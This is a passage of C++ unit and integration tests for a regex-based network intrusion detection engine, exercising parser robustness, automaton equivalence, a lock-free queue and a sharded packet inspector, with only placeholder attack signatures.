       {"abcd----efgh", "x123y and x9y", "GET /index", "nothing here", ""}) {
    D2faScanner s(delta);
    EXPECT_EQ(sorted(s.scan(input)),
              sorted(mfa::testing::reference_matches(pats, input)))
        << input;
  }
}

}  // namespace
}  // namespace mfa::dfa
