// Parser robustness: random and mutated inputs must never crash, error
// offsets must stay in range, and accepted patterns must round-trip through
// the printer and compile cleanly.
#include <gtest/gtest.h>

#include "nfa/nfa.h"
#include "regex/parser.h"
#include "regex/sample.h"
#include "util/rng.h"

namespace mfa::regex {
namespace {

class ParserFuzz : public ::testing::TestWithParam<std::uint64_t> {};

TEST_P(ParserFuzz, RandomBytesNeverCrash) {
  util::Rng rng(GetParam() * 104729);
  for (int round = 0; round < 400; ++round) {
    const std::size_t len = rng.below(40);
    std::string pattern(len, '\0');
    for (auto& c : pattern) c = static_cast<char>(rng.byte());
    const ParseResult r = parse(pattern);
    if (!r.ok()) {
      EXPECT_LE(r.error->offset, pattern.size());
      EXPECT_FALSE(r.error->message.empty());
    }
  }
}

TEST(ParserLimits, DeepGroupNestingRejectedNotStackOverflow) {
  // A hostile rule upload of 100k '(' must come back as a parse error; the
  // recursive-descent parser would otherwise ride it into a stack overflow.
  const std::string deep(100000, '(');
  const ParseResult r = parse(deep + "a" + std::string(100000, ')'));
  ASSERT_FALSE(r.ok());
  EXPECT_NE(r.error->message.find("nesting"), std::string::npos)
      << r.error->message;

  // Same for unbalanced prefixes (the parser must not recurse while
  // error-recovering either).
  const ParseResult unbalanced = parse(deep);
  ASSERT_FALSE(unbalanced.ok());
}

TEST(ParserLimits, ModerateNestingStillAccepted) {
  std::string pattern;
  for (int i = 0; i < 50; ++i) pattern += "(a";
  pattern += "b";
  for (int i = 0; i < 50; ++i) pattern += ")";
  const ParseResult r = parse(pattern);
  ASSERT_TRUE(r.ok()) << r.error->message;

  // The cap is configurable: the same pattern fails under a tighter one.
  ParseOptions tight;
  tight.max_nesting_depth = 10;
  EXPECT_FALSE(parse(pattern, tight).ok());
}

TEST_P(ParserFuzz, MetacharSoupNeverCrashes) {
  util::Rng rng(GetParam() * 7);
  const std::string alphabet = "ab(){}[]*+?|\\^$.-,0123456789/in";
  for (int round = 0; round < 400; ++round) {
    const std::size_t len = rng.below(30);
    std::string pattern;
    for (std::size_t i = 0; i < len; ++i) pattern += alphabet[rng.below(alphabet.size())];
    const ParseResult r = parse(pattern);
    if (r.ok()) {
      // Anything accepted must compile to an NFA without issue.
      const nfa::Nfa n =
          nfa::build_nfa({nfa::PatternInput{*r.regex, 1}});
      EXPECT_GT(n.state_count(), 0u);
    }
  }
}

TEST_P(ParserFuzz, AcceptedPatternsRoundTripStably) {
  util::Rng rng(GetParam() * 31);
  const std::string alphabet = "abc[]()*+?|.x-09";
  int accepted = 0;
  for (int round = 0; round < 500; ++round) {
    std::string pattern;
    for (std::size_t i = rng.below(16); i > 0; --i)
      pattern += alphabet[rng.below(alphabet.size())];
    const ParseResult r1 = parse(pattern);
    if (!r1.ok()) continue;
    ++accepted;
    const std::string printed1 = to_source(*r1.regex);
    const ParseResult r2 = parse(printed1);
    ASSERT_TRUE(r2.ok()) << "printed form rejected: " << printed1
                         << " (from " << pattern << ")";
    // Printing must reach a fixed point after one round.
    EXPECT_EQ(to_source(*r2.regex), printed1) << pattern;
  }
  EXPECT_GT(accepted, 10);
}

TEST_P(ParserFuzz, SampledStringsMatchTheirPattern) {
  // Parse, sample a member string, and confirm the NFA accepts it at the
  // final position — ties parser, sampler and NFA semantics together.
  util::Rng rng(GetParam() * 1009);
  const char* kPatterns[] = {
      "a(bc|de)+f",     "x[0-9]{2,4}y[a-f]*z", "(ab?c){2}",
      "q(w|e(r|t)y)+u", "[^\\n]{3}end",        "hdr\\x20\\x09val",
  };
  for (const char* src : kPatterns) {
    const Regex re = parse_or_die(src);
    const nfa::Nfa n = nfa::build_nfa({nfa::PatternInput{re, 1}});
    for (int i = 0; i < 25; ++i) {
      const std::string s = sample_match(re, rng);
      nfa::NfaScanner scanner(n);
      const MatchVec got = scanner.scan(s);
      const bool matched_at_end =
          std::any_of(got.begin(), got.end(),
                      [&](const Match& m) { return m.end == s.size() - 1; });
      EXPECT_TRUE(!s.empty() && matched_at_end) << src << " sample: " << s;
    }
  }
}

INSTANTIATE_TEST_SUITE_P(Seeds, ParserFuzz, ::testing::Values(1, 2, 3, 4, 5, 6));

}  // namespace
}  // namespace mfa::regex
