#include "regex/ast.h"

#include <gtest/gtest.h>

#include "regex/parser.h"
#include "regex/sample.h"
#include "util/rng.h"

namespace mfa::regex {
namespace {

NodePtr P(const std::string& src) { return parse_or_die(src).root; }

TEST(Ast, ConcatFlattens) {
  const NodePtr n = make_concat({P("ab"), P("cd")});
  ASSERT_EQ(n->kind, NodeKind::Concat);
  EXPECT_EQ(n->children.size(), 4u);
}

TEST(Ast, ConcatDropsEmpty) {
  const NodePtr n = make_concat({make_empty(), P("a"), make_empty()});
  EXPECT_EQ(n->kind, NodeKind::CharSet);
}

TEST(Ast, StarSimplifications) {
  EXPECT_EQ(make_star(make_star(P("a")))->children.size(), 1u);
  EXPECT_EQ(make_star(make_plus(P("a")))->kind, NodeKind::Star);
  EXPECT_EQ(make_star(make_optional(P("a")))->kind, NodeKind::Star);
  EXPECT_EQ(make_optional(make_plus(P("a")))->kind, NodeKind::Star);
}

TEST(Ast, RepeatNormalizations) {
  EXPECT_EQ(make_repeat(P("a"), 0, -1)->kind, NodeKind::Star);
  EXPECT_EQ(make_repeat(P("a"), 1, -1)->kind, NodeKind::Plus);
  EXPECT_EQ(make_repeat(P("a"), 0, 1)->kind, NodeKind::Optional);
  EXPECT_EQ(make_repeat(P("a"), 1, 1)->kind, NodeKind::CharSet);
  EXPECT_EQ(make_repeat(P("a"), 2, 5)->kind, NodeKind::Repeat);
}

TEST(Ast, Nullable) {
  EXPECT_TRUE(nullable(*P("a*")));
  EXPECT_TRUE(nullable(*P("a?")));
  EXPECT_TRUE(nullable(*P("(a|b*)")));
  EXPECT_TRUE(nullable(*P("a*b*")));
  EXPECT_FALSE(nullable(*P("a")));
  EXPECT_FALSE(nullable(*P("a*b")));
  EXPECT_FALSE(nullable(*P("a+")));
  EXPECT_TRUE(nullable(*P("a{0,3}")));
  EXPECT_FALSE(nullable(*P("a{2,3}")));
}

TEST(Ast, FirstChars) {
  EXPECT_TRUE(first_chars(*P("abc")).test('a'));
  EXPECT_FALSE(first_chars(*P("abc")).test('b'));
  // Nullable head exposes the next atom.
  const CharClass fc = first_chars(*P("a*bc"));
  EXPECT_TRUE(fc.test('a'));
  EXPECT_TRUE(fc.test('b'));
  EXPECT_FALSE(fc.test('c'));
  const CharClass alt = first_chars(*P("ab|cd"));
  EXPECT_TRUE(alt.test('a'));
  EXPECT_TRUE(alt.test('c'));
}

TEST(Ast, LastChars) {
  EXPECT_TRUE(last_chars(*P("abc")).test('c'));
  EXPECT_FALSE(last_chars(*P("abc")).test('b'));
  const CharClass lc = last_chars(*P("ab?")); // b optional: a or b can end
  EXPECT_TRUE(lc.test('a'));
  EXPECT_TRUE(lc.test('b'));
}

TEST(Ast, AllChars) {
  const CharClass ac = all_chars(*P("a(b|c)d*"));
  EXPECT_TRUE(ac.test('a'));
  EXPECT_TRUE(ac.test('b'));
  EXPECT_TRUE(ac.test('c'));
  EXPECT_TRUE(ac.test('d'));
  EXPECT_FALSE(ac.test('e'));
}

TEST(Ast, MatchLengths) {
  EXPECT_EQ(min_match_length(*P("abc")), 3);
  EXPECT_EQ(max_match_length(*P("abc")), 3);
  EXPECT_EQ(min_match_length(*P("a+")), 1);
  EXPECT_EQ(max_match_length(*P("a+")), -1);
  EXPECT_EQ(min_match_length(*P("a{2,5}")), 2);
  EXPECT_EQ(max_match_length(*P("a{2,5}")), 5);
  EXPECT_EQ(min_match_length(*P("ab|cde")), 2);
  EXPECT_EQ(max_match_length(*P("ab|cde")), 3);
}

TEST(Ast, ToSourceRoundTrips) {
  // to_source must produce a pattern that reparses to the same structure
  // (checked by printing twice).
  for (const char* src : {"abc", "a|b", "(ab|cd)+x", "[a-f]{2,4}", "a*b+c?",
                          ".*abc[^\\r\\n]*xyz", "\\d+\\.\\d+", "^anchored.*tail"}) {
    const Regex re1 = parse_or_die(src);
    const std::string printed = to_source(re1);
    const Regex re2 = parse_or_die(printed);
    EXPECT_EQ(printed, to_source(re2)) << src;
    EXPECT_EQ(re1.anchored, re2.anchored) << src;
  }
}

TEST(Ast, SampleMatchesAreInLanguage) {
  // Every sampled string, fed to the NFA of the same pattern, must match at
  // its final position.
  util::Rng rng(42);
  for (const char* src : {"abc", "a(b|c)d", "x[0-9]{2,4}y", "ab+c*", "(foo|bar)+"}) {
    const Regex re = parse_or_die(src);
    for (int i = 0; i < 20; ++i) {
      const std::string s = sample_match(re, rng);
      EXPECT_GE(s.size(), static_cast<std::size_t>(min_match_length(*re.root))) << src;
      const int maxlen = max_match_length(*re.root);
      if (maxlen >= 0) EXPECT_LE(s.size(), static_cast<std::size_t>(maxlen)) << src;
    }
  }
}

}  // namespace
}  // namespace mfa::regex
