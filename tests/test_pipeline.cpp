// Sharded pipeline: SPSC queue unit behaviour, and the correctness contract
// of ShardedInspector — any shard count must produce exactly the sequential
// FlowInspector's matches, because flows are pinned to shards by hash.
#include "pipeline/pipeline.h"

#include <gtest/gtest.h>

#include <atomic>
#include <string>
#include <thread>
#include <vector>

#include "engine_test_util.h"
#include "mfa/mfa.h"
#include "pipeline/spsc_queue.h"
#include "trace/trace.h"
#include "util/rng.h"

namespace mfa::pipeline {
namespace {

using mfa::testing::compile_patterns;

TEST(SpscQueue, CapacityRoundsUpToPowerOfTwo) {
  EXPECT_EQ(SpscQueue<int>(1).capacity(), 2u);
  EXPECT_EQ(SpscQueue<int>(2).capacity(), 2u);
  EXPECT_EQ(SpscQueue<int>(3).capacity(), 4u);
  EXPECT_EQ(SpscQueue<int>(4096).capacity(), 4096u);
  EXPECT_EQ(SpscQueue<int>(5000).capacity(), 8192u);
}

TEST(SpscQueue, FifoOrderSingleThread) {
  SpscQueue<int> q(8);
  for (int i = 0; i < 8; ++i) EXPECT_TRUE(q.try_push(i));
  EXPECT_FALSE(q.try_push(99));  // full
  EXPECT_EQ(q.depth(), 8u);
  int v = -1;
  for (int i = 0; i < 8; ++i) {
    ASSERT_TRUE(q.try_pop(v));
    EXPECT_EQ(v, i);
  }
  EXPECT_FALSE(q.try_pop(v));  // empty
  EXPECT_EQ(q.depth(), 0u);
}

TEST(SpscQueue, WrapsAroundManyTimes) {
  SpscQueue<int> q(4);
  int v = -1;
  for (int i = 0; i < 1000; ++i) {
    ASSERT_TRUE(q.try_push(i));
    ASSERT_TRUE(q.try_pop(v));
    EXPECT_EQ(v, i);
  }
}

TEST(SpscQueue, CloseWakesBurstPoppingConsumerAndDeliversEverything) {
  // A consumer that spins on try_pop and only exits once the queue is both
  // empty AND closed must terminate without losing any element, even though
  // close() races with its final empty-check.
  SpscQueue<int> q(32);
  constexpr int kCount = 1000;
  std::atomic<int> got{0};
  std::thread consumer([&] {
    int v = -1;
    for (;;) {
      bool popped = false;
      while (q.try_pop(v)) {  // burst-drain whatever is visible
        got.fetch_add(1, std::memory_order_relaxed);
        popped = true;
      }
      if (popped) continue;
      if (q.closed()) {
        // close() happens after the final push, so one last drain pass
        // observes everything published before the close.
        while (q.try_pop(v)) got.fetch_add(1, std::memory_order_relaxed);
        return;
      }
      std::this_thread::yield();
    }
  });
  for (int i = 0; i < kCount; ++i)
    while (!q.try_push(i)) std::this_thread::yield();
  q.close();
  consumer.join();  // must not hang
  EXPECT_EQ(got.load(), kCount);
  EXPECT_TRUE(q.closed());
  q.reopen();
  EXPECT_FALSE(q.closed());
  EXPECT_TRUE(q.try_push(7));
}

TEST(SpscQueue, TwoThreadHandoffDeliversEverything) {
  SpscQueue<std::uint64_t> q(64);
  constexpr std::uint64_t kCount = 200000;
  std::uint64_t sum = 0;
  std::thread consumer([&] {
    std::uint64_t v = 0, got = 0;
    while (got < kCount) {
      if (q.try_pop(v)) {
        sum += v;
        ++got;
      } else {
        std::this_thread::yield();
      }
    }
  });
  for (std::uint64_t i = 1; i <= kCount; ++i)
    while (!q.try_push(i)) std::this_thread::yield();
  consumer.join();
  EXPECT_EQ(sum, kCount * (kCount + 1) / 2);
}

// --- ShardedInspector vs sequential FlowInspector ---

struct Fixture {
  core::Mfa mfa;
  trace::Trace trace;
  MatchVec sequential;  // sorted matches from a plain FlowInspector
  std::uint64_t packets = 0;
  std::uint64_t bytes = 0;
};

Fixture make_fixture() {
  Fixture f;
  auto m = core::build_mfa(
      compile_patterns({".*atk1.*vec2", ".*worm77", ".*sig[0-9]end"}));
  EXPECT_TRUE(m.has_value());
  f.mfa = *std::move(m);
  f.trace = trace::make_real_life(trace::RealLifeProfile::kCyberDefense, 200000, 77,
                                  {"atk1 and vec2", "worm77", "sig5end"});
  flow::FlowInspector<core::Mfa> insp{f.mfa};
  CollectingSink sink;
  f.trace.for_each_packet([&](const flow::Packet& p) {
    ++f.packets;
    f.bytes += p.length;
    insp.packet(p, sink);
  });
  f.sequential = mfa::testing::sorted(std::move(sink.matches));
  return f;
}

TEST(ShardedInspector, MatchesSequentialAtEveryShardCount) {
  const Fixture f = make_fixture();
  ASSERT_FALSE(f.sequential.empty());
  for (const std::size_t shards : {1u, 2u, 4u}) {
    Options opt;
    opt.shards = shards;
    opt.collect_matches = true;
    ShardedInspector<core::Mfa> pipe(f.mfa, opt);
    pipe.start();
    f.trace.for_each_packet([&](const flow::Packet& p) { pipe.submit(p); });
    pipe.finish();
    EXPECT_EQ(pipe.merged_matches(), f.sequential) << shards << " shards";
    EXPECT_EQ(pipe.totals().matches, f.sequential.size()) << shards << " shards";
  }
}

TEST(ShardedInspector, PerShardStatsSumToTraceTotals) {
  const Fixture f = make_fixture();
  Options opt;
  opt.shards = 4;
  ShardedInspector<core::Mfa> pipe(f.mfa, opt);
  pipe.start();
  f.trace.for_each_packet([&](const flow::Packet& p) { pipe.submit(p); });
  pipe.finish();
  ASSERT_EQ(pipe.stats().size(), 4u);
  const ShardStats t = pipe.totals();
  EXPECT_EQ(t.packets, f.packets);
  EXPECT_EQ(t.bytes, f.bytes);
  EXPECT_EQ(t.matches, f.sequential.size());
  // Hashing must actually spread this many flows over 4 shards.
  std::size_t active = 0;
  for (const auto& s : pipe.stats()) active += s.packets > 0 ? 1 : 0;
  EXPECT_GT(active, 1u);
  EXPECT_LE(t.max_queue_depth, 4096u);
}

TEST(ShardedInspector, PacketsLandOnTheirHashedShard) {
  const Fixture f = make_fixture();
  Options opt;
  opt.shards = 4;
  ShardedInspector<core::Mfa> pipe(f.mfa, opt);
  // Predict each shard's packet count from the dispatch hash alone.
  std::vector<std::uint64_t> expect(4, 0);
  f.trace.for_each_packet(
      [&](const flow::Packet& p) { ++expect[pipe.shard_of(p.key)]; });
  pipe.start();
  f.trace.for_each_packet([&](const flow::Packet& p) { pipe.submit(p); });
  pipe.finish();
  for (std::size_t i = 0; i < 4; ++i)
    EXPECT_EQ(pipe.stats()[i].packets, expect[i]) << "shard " << i;
}

TEST(ShardedInspector, FlowCapEvictsPerShard) {
  auto m = core::build_mfa(compile_patterns({".*needle"}));
  ASSERT_TRUE(m.has_value());
  Options opt;
  opt.shards = 2;
  opt.max_flows_per_shard = 8;
  ShardedInspector<core::Mfa> pipe(*m, opt);
  pipe.start();
  const std::string payload = "a needle here";
  for (std::uint32_t i = 0; i < 100; ++i) {
    flow::Packet p{flow::FlowKey{i, 1, 2, 3, 6}, 0,
                   reinterpret_cast<const std::uint8_t*>(payload.data()),
                   static_cast<std::uint32_t>(payload.size())};
    pipe.submit(p);
  }
  pipe.finish();
  const ShardStats t = pipe.totals();
  EXPECT_EQ(t.matches, 100u);  // eviction never loses in-flight single packets
  EXPECT_LE(t.flows, 16u);     // 8 per shard
  EXPECT_EQ(t.flows + t.evictions, 100u);
}

TEST(ShardedInspector, TinyQueueStillDeliversEverything) {
  // Queue capacity far below the packet count forces submit() backpressure.
  const Fixture f = make_fixture();
  Options opt;
  opt.shards = 2;
  opt.queue_capacity = 4;
  ShardedInspector<core::Mfa> pipe(f.mfa, opt);
  pipe.start();
  f.trace.for_each_packet([&](const flow::Packet& p) { pipe.submit(p); });
  pipe.finish();
  EXPECT_EQ(pipe.totals().packets, f.packets);
  EXPECT_EQ(pipe.totals().matches, f.sequential.size());
  EXPECT_LE(pipe.totals().max_queue_depth, 4u);
}

TEST(ShardedInspector, LiveSnapshotWhileScanning) {
  // The acceptance scenario from DESIGN.md Sec. 8: with workers actively
  // scanning, snapshot() must return non-zero, internally consistent
  // counters, and after finish() the telemetry must agree exactly with the
  // merged ShardStats.
  const Fixture f = make_fixture();
  obs::MetricsRegistry registry(
      {.shards = 4, .match_id_capacity = 64, .trace_capacity = 256});
  Options opt;
  opt.shards = 4;
  opt.metrics = &registry;
  ShardedInspector<core::Mfa> pipe(f.mfa, opt);
  EXPECT_TRUE(pipe.telemetry_enabled());
  pipe.start();

  std::vector<flow::Packet> packets;
  f.trace.for_each_packet([&](const flow::Packet& p) { packets.push_back(p); });
  const std::size_t half = packets.size() / 2;
  for (std::size_t i = 0; i < half; ++i) pipe.submit(packets[i]);

  // Poll mid-run until the workers have visibly progressed. Counters are
  // monotonic, so every observed value is a lower bound on the final one.
  obs::RegistrySnapshot mid = pipe.snapshot();
  while (mid.totals().packets == 0) {
    std::this_thread::yield();
    mid = pipe.snapshot();
  }
  for (const obs::ShardSnapshot& s : mid.shards) {
    // packets is incremented before the scan timer fires, and the snapshot
    // reads packets first, so packets can lead scan_ns.count by at most the
    // one packet in flight — never trail it by more.
    EXPECT_LE(s.packets, s.scan_ns.count + 1);
    EXPECT_LE(s.packets, f.packets);
    EXPECT_LE(s.bytes, f.bytes);
    EXPECT_GE(s.packet_bytes.count, s.scan_ns.count);
  }
  EXPECT_LE(mid.totals().matches, f.sequential.size());

  for (std::size_t i = half; i < packets.size(); ++i) pipe.submit(packets[i]);
  const obs::RegistrySnapshot later = pipe.snapshot();
  EXPECT_GE(later.totals().packets, mid.totals().packets);  // monotone
  pipe.finish();

  const obs::RegistrySnapshot fin = pipe.snapshot();
  const obs::ShardSnapshot t = fin.totals();
  EXPECT_EQ(t.packets, f.packets);
  EXPECT_EQ(t.bytes, f.bytes);
  EXPECT_EQ(t.matches, f.sequential.size());
  EXPECT_EQ(t.scan_ns.count, f.packets);
  EXPECT_EQ(t.packet_bytes.sum, f.bytes);
  std::uint64_t hits = 0;
  for (const auto& [id, count] : fin.match_counts) hits += count;
  EXPECT_EQ(hits + fin.match_id_overflow, f.sequential.size());
  EXPECT_EQ(fin.trace_recorded, f.sequential.size());

  // Shard i of the pipeline writes registry slot i (4 shards each), so the
  // two accounting paths must agree exactly per shard.
  ASSERT_EQ(pipe.stats().size(), 4u);
  for (std::size_t i = 0; i < 4; ++i) {
    const ShardStats& st = pipe.stats()[i];
    const obs::ShardSnapshot& s = fin.shards[i];
    EXPECT_EQ(s.packets, st.packets) << "shard " << i;
    EXPECT_EQ(s.bytes, st.bytes) << "shard " << i;
    EXPECT_EQ(s.matches, st.matches) << "shard " << i;
    EXPECT_EQ(s.flows, st.flows) << "shard " << i;
    EXPECT_EQ(s.evictions, st.evictions) << "shard " << i;
    EXPECT_EQ(s.reassembly_drops, st.reassembly_drops) << "shard " << i;
    EXPECT_EQ(s.queue_full_spins, st.queue_full_spins) << "shard " << i;
  }
}

TEST(ShardedInspector, BackpressureSpinsCounted) {
  // A queue far smaller than the packet count forces the producer to spin;
  // those spins must surface both in ShardStats and in the registry.
  const Fixture f = make_fixture();
  obs::MetricsRegistry registry(2);
  Options opt;
  opt.shards = 2;
  opt.queue_capacity = 4;
  opt.metrics = &registry;
  ShardedInspector<core::Mfa> pipe(f.mfa, opt);
  pipe.start();
  f.trace.for_each_packet([&](const flow::Packet& p) { pipe.submit(p); });
  pipe.finish();
  const ShardStats t = pipe.totals();
  EXPECT_EQ(t.packets, f.packets);
  EXPECT_GT(t.queue_full_spins, 0u);
  const obs::ShardSnapshot reg = pipe.snapshot().totals();
  EXPECT_EQ(reg.queue_full_spins, t.queue_full_spins);
  EXPECT_EQ(reg.max_queue_depth, t.max_queue_depth);
  EXPECT_EQ(reg.queue_depth.count, f.packets);  // sampled at every submit
}

TEST(ShardedInspector, RestartAfterFinishStartsClean) {
  const Fixture f = make_fixture();
  Options opt;
  opt.shards = 2;
  ShardedInspector<core::Mfa> pipe(f.mfa, opt);
  for (int round = 0; round < 2; ++round) {
    pipe.start();
    f.trace.for_each_packet([&](const flow::Packet& p) { pipe.submit(p); });
    pipe.finish();
    EXPECT_EQ(pipe.totals().packets, f.packets) << "round " << round;
    EXPECT_EQ(pipe.totals().matches, f.sequential.size()) << "round " << round;
  }
}

TEST(ShardedInspector, SubmitOutsideStartFinishThrows) {
  // Regression: submit() used to index shards_ unconditionally; before
  // start() the vector is empty, so the modulo indexed into nothing (UB).
  const Fixture f = make_fixture();
  Options opt;
  opt.shards = 2;
  ShardedInspector<core::Mfa> pipe(f.mfa, opt);
  const flow::Packet p{flow::FlowKey{1, 2, 3, 4, 6}, 0,
                       reinterpret_cast<const std::uint8_t*>("x"), 1};
  EXPECT_THROW(pipe.submit(p), std::logic_error);
  pipe.start();
  pipe.submit(p);
  pipe.finish();
  EXPECT_THROW(pipe.submit(p), std::logic_error);
  // And the pipeline still restarts cleanly after the misuse.
  pipe.start();
  pipe.submit(p);
  pipe.finish();
  EXPECT_EQ(pipe.totals().packets, 1u);
}

TEST(ShardedInspector, BatchSizeOneBehavesLikeUnbatched) {
  // batch_size=1 must flush every submit immediately and still match the
  // sequential reference (the pre-batching behavior as a special case).
  const Fixture f = make_fixture();
  Options opt;
  opt.shards = 2;
  opt.batch_size = 1;
  opt.collect_matches = true;
  ShardedInspector<core::Mfa> pipe(f.mfa, opt);
  pipe.start();
  f.trace.for_each_packet([&](const flow::Packet& p) { pipe.submit(p); });
  pipe.finish();
  EXPECT_EQ(pipe.merged_matches(), f.sequential);
  EXPECT_EQ(pipe.totals().packets, f.packets);
}

TEST(ShardedInspector, LargeBatchAndLaneSweepMatchesSequential) {
  const Fixture f = make_fixture();
  for (const std::size_t lanes : {1u, 4u, 16u}) {
    Options opt;
    opt.shards = 2;
    opt.batch_size = 128;
    opt.scan_lanes = lanes;
    opt.collect_matches = true;
    ShardedInspector<core::Mfa> pipe(f.mfa, opt);
    pipe.start();
    f.trace.for_each_packet([&](const flow::Packet& p) { pipe.submit(p); });
    pipe.finish();
    EXPECT_EQ(pipe.merged_matches(), f.sequential) << "lanes " << lanes;
  }
}

}  // namespace
}  // namespace mfa::pipeline
