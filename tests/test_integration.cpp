// Whole-pipeline integration: builtin rule sets compiled through every
// engine, scanned over generated traces via the flow inspector, compared
// engine-to-engine; persisted automata; failure injection.
#include <gtest/gtest.h>

#include "eval/harness.h"
#include "rules/rules.h"

namespace mfa {
namespace {

/// Collect (id, flow-offset) alerts per engine via the flow inspector and
/// compare across all constructable engines.
template <typename EngineT>
std::uint64_t count_alerts(const EngineT& engine, const trace::Trace& t) {
  flow::FlowInspector<EngineT> inspector{engine};
  CountingSink sink;
  t.for_each_packet([&](const flow::Packet& p) { inspector.packet(p, sink); });
  return sink.count;
}

TEST(Integration, S24OverCdxTraceAllEnginesAgree) {
  const patterns::PatternSet set = patterns::set_by_name("S24");
  eval::SuiteOptions opts;
  const eval::Suite suite = eval::build_suite(set, opts);
  ASSERT_TRUE(suite.dfa && suite.mfa && suite.hfa && suite.xfa);
  const auto exemplars = eval::attack_exemplars(set, 3, 42);
  const trace::Trace t = trace::make_real_life(trace::RealLifeProfile::kCyberDefenseNoisy,
                                               400000, 42, exemplars);
  const std::uint64_t dfa_alerts = count_alerts(*suite.dfa, t);
  EXPECT_GT(dfa_alerts, 0u);
  EXPECT_EQ(count_alerts(suite.nfa, t), dfa_alerts);
  EXPECT_EQ(count_alerts(*suite.mfa, t), dfa_alerts);
  EXPECT_EQ(count_alerts(*suite.hfa, t), dfa_alerts);
  EXPECT_EQ(count_alerts(*suite.xfa, t), dfa_alerts);
}

TEST(Integration, C10SyntheticHighPmAllEnginesAgree) {
  const patterns::PatternSet set = patterns::set_by_name("C10");
  const eval::Suite suite = eval::build_suite(set);
  ASSERT_TRUE(suite.dfa && suite.mfa && suite.hfa && suite.xfa);
  const trace::Trace t = trace::make_synthetic(*suite.dfa, 0.95, 100000, 9);
  const std::uint64_t dfa_alerts = count_alerts(*suite.dfa, t);
  EXPECT_GT(dfa_alerts, 0u);  // p_M 0.95 must actually produce matches
  EXPECT_EQ(count_alerts(*suite.mfa, t), dfa_alerts);
  EXPECT_EQ(count_alerts(*suite.hfa, t), dfa_alerts);
  EXPECT_EQ(count_alerts(*suite.xfa, t), dfa_alerts);
}

TEST(Integration, B217pMfaSurvivesWhereDfaFails) {
  // The paper's headline B217p result, end to end.
  const patterns::PatternSet set = patterns::set_by_name("B217p");
  eval::SuiteOptions opts;
  opts.dfa_max_states = 50000;  // keep the failure quick in tests
  opts.build_hfa = false;
  opts.build_xfa = false;
  const eval::Suite suite = eval::build_suite(set, opts);
  EXPECT_FALSE(suite.dfa_build.ok);
  ASSERT_TRUE(suite.mfa_build.ok);
  const auto exemplars = eval::attack_exemplars(set, 1, 5);
  const trace::Trace t = trace::make_real_life(trace::RealLifeProfile::kCyberDefenseNoisy,
                                               300000, 5, exemplars);
  const std::uint64_t mfa_alerts = count_alerts(*suite.mfa, t);
  const std::uint64_t nfa_alerts = count_alerts(suite.nfa, t);
  EXPECT_EQ(mfa_alerts, nfa_alerts);
  EXPECT_GT(mfa_alerts, 0u);
}

TEST(Integration, PersistedAutomatonMatchesFreshBuild) {
  const patterns::PatternSet set = patterns::set_by_name("C8");
  auto fresh = core::build_mfa(set.patterns);
  ASSERT_TRUE(fresh.has_value());
  const std::string path = ::testing::TempDir() + "/c8.mfac";
  ASSERT_TRUE(fresh->save(path));
  auto loaded = core::Mfa::load(path);
  ASSERT_TRUE(loaded.has_value());
  const auto exemplars = eval::attack_exemplars(set, 2, 77);
  const trace::Trace t =
      trace::make_real_life(trace::RealLifeProfile::kNitroba, 150000, 77, exemplars);
  EXPECT_EQ(count_alerts(*fresh, t),
            count_alerts(*loaded, t));
  std::remove(path.c_str());
}

TEST(Integration, TraceRoundTripPreservesAlerts) {
  const patterns::PatternSet set = patterns::set_by_name("C8");
  auto mfa = core::build_mfa(set.patterns);
  ASSERT_TRUE(mfa.has_value());
  const auto exemplars = eval::attack_exemplars(set, 2, 31);
  const trace::Trace original =
      trace::make_real_life(trace::RealLifeProfile::kCyberDefense, 120000, 31, exemplars);
  const std::string path = ::testing::TempDir() + "/roundtrip_alerts.mftr";
  ASSERT_TRUE(original.save(path));
  trace::Trace reloaded;
  ASSERT_TRUE(trace::Trace::load(path, reloaded));
  EXPECT_EQ(count_alerts(*mfa, original),
            count_alerts(*mfa, reloaded));
  std::remove(path.c_str());
}

TEST(Integration, SuiteOptionsSkipEngines) {
  const patterns::PatternSet set = patterns::set_by_name("C8");
  eval::SuiteOptions opts;
  opts.build_dfa = false;
  opts.build_hfa = false;
  opts.build_xfa = false;
  const eval::Suite suite = eval::build_suite(set, opts);
  EXPECT_FALSE(suite.dfa.has_value());
  EXPECT_FALSE(suite.hfa.has_value());
  EXPECT_FALSE(suite.xfa.has_value());
  EXPECT_TRUE(suite.mfa.has_value());
}

TEST(Integration, RulesFileToTraceAlerts) {
  // Rules file -> MFA -> trace with planted content -> sid-keyed alerts.
  const char* rules_text =
      "alert tcp any any -> any 80 (msg:\"r1\"; content:\"implant9\"; "
      "content:\"beacon7\"; sid:101;)\n"
      "alert tcp any any -> any 80 (msg:\"r2\"; pcre:\"/.*Evil-UA[^\\r\\n]*probe/\"; "
      "sid:102;)\n";
  const rules::LoadResult loaded = rules::parse_rules(rules_text);
  ASSERT_TRUE(loaded.ok());
  auto mfa = core::build_mfa(rules::to_pattern_inputs(loaded.rules));
  ASSERT_TRUE(mfa.has_value());
  const std::vector<std::string> exemplars = {"implant9 ... beacon7",
                                              "Evil-UA 2.0 probe"};
  const trace::Trace t = trace::make_real_life(trace::RealLifeProfile::kCyberDefenseNoisy,
                                               400000, 13, exemplars);
  flow::FlowInspector<core::Mfa> inspector{*mfa};
  std::set<std::uint32_t> sids;
  t.for_each_packet([&](const flow::Packet& p) {
    inspector.packet(p, [&](std::uint32_t id, std::uint64_t) { sids.insert(id); });
  });
  EXPECT_TRUE(sids.count(101));
  EXPECT_TRUE(sids.count(102));
}

TEST(Integration, MinimizedMfaDfaStillEquivalent) {
  const patterns::PatternSet set = patterns::set_by_name("C8");
  core::BuildOptions min_opts;
  min_opts.dfa.minimize = true;
  auto minimized = core::build_mfa(set.patterns, min_opts);
  auto plain = core::build_mfa(set.patterns);
  ASSERT_TRUE(minimized && plain);
  EXPECT_LE(minimized->character_dfa().state_count(),
            plain->character_dfa().state_count());
  const auto exemplars = eval::attack_exemplars(set, 2, 55);
  const trace::Trace t =
      trace::make_real_life(trace::RealLifeProfile::kDarpa, 100000, 55, exemplars);
  EXPECT_EQ(count_alerts(*minimized, t),
            count_alerts(*plain, t));
}

}  // namespace
}  // namespace mfa
