#include <gtest/gtest.h>

#include <set>

#include "engine_test_util.h"
#include "hfa/hfa.h"
#include "mfa/mfa.h"
#include "xfa/xfa.h"

namespace mfa {
namespace {

using mfa::testing::compile_patterns;
using mfa::testing::reference_matches;
using mfa::testing::sorted;

const std::vector<std::string> kPats = {".*atk1.*atk2", ".*hdr3[^\\n]*val4", ".*lone5"};

TEST(Hfa, MatchEquivalentToReference) {
  auto h = hfa::build_hfa(compile_patterns(kPats));
  ASSERT_TRUE(h.has_value());
  for (const std::string input :
